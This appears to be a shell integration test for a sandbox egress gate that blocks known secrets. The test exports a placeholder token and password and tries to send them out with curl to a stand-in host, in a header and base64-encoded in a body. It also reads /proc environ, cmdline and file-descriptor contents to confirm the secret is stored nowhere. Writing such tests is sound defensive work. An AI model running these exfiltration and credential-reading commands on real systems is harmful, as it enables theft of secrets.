# Known secrets: a value that no pattern knows, given by the operator's environment, does not leave
# the bottle in any spelling and stands nowhere but in memory.
# shellcheck disable=SC2016,SC2046
. "${0%/*}/lib.sh"

value="Xk7+q$IT_RUN/R2~9wZb4%v"
export ACME_TOKEN="$value"
site_
manifest_ '{"env":{"ACME_TOKEN":{"from_env":"ACME_TOKEN"},"ACME_PASSWORD":"tr0ub4dor&3x"}}'

# The same in any bottle: a header, a body in base64 behind another byte, a clean one.
tries='for how in header body clean; do
	set -- -sS -o /dev/null -w "$how %{http_code}\n" https://api.good.test/post
	case $how in
	header) curl "$@" -H "X-Key: $ACME_TOKEN" ;;
	body) printf "x%s" "$ACME_TOKEN" | base64 -w0 | curl "$@" -d @- ;;
	clean) curl "$@" -d "${ACME_TOKEN%????}" ;;
	esac
done
curl -sS -d "$ACME_PASSWORD" https://api.good.test/post'
judged() {
	expect_out "header 403"
	expect_out "body 403"
	expect_out "clean 200"
	expect_out "Known Secret (ACME_PASSWORD)"
}
# In no place of the gate that a process or a file can be asked for. The agent's own has it.
nowhere_() {
	for pid in "$@"; do
		run_ sh -c 'cat "/proc/$0/environ" "/proc/$0/cmdline"; for f in /proc/$0/fd/*; do [ ! -f "$f" ] || cat "$f"; done' "$pid"
		expect "a gate was looked at" [ -s "$out" ]
		refuse_out "$value"
		refuse_out "tr0ub4dor"
	done
	[ $# -gt 0 ] || bad "no gate was found"
	run_ grep -rlF -e "$value" -e "tr0ub4dor" "$XDG_STATE_HOME"
	refuse_out /
}

s=$(slug_ known)
case_ "a value from the environment is refused by its variable's name"
off || up_ "$s" root || bad "did not come up: $(cat "$err")"
sh_ "$s" "$tries"
judged
expect_event "$s" '.scanner == "header_dlp" and .pattern == "Known Secret (ACME_TOKEN)"'

case_ "it stands in no file, argument, variable or log of the gate, nor with the engine"
run_ "$BOTTLE" logs "$s" --format json
expect_out 'Known Secret (ACME_TOKEN)'
refuse_out "$value"
if [ "$IT_BACKEND" = docker ]; then
	run_ docker inspect "bottle-gate-$s"
	expect_out '"--known"'
	refuse_out "$value"
	run_ docker logs "bottle-gate-$s"
	refuse_out "$value"
	refuse_err "$value"
	run_ sh -c 'docker export "bottle-gate-$0" | grep -cF -e "$1" -e "tr0ub4dor"' "$s" "$value"
	expect_out 0
fi
nowhere_ $(off || gate_pid "$s")
off || down_ "$s"
expect_nothing_left "$s"
done_
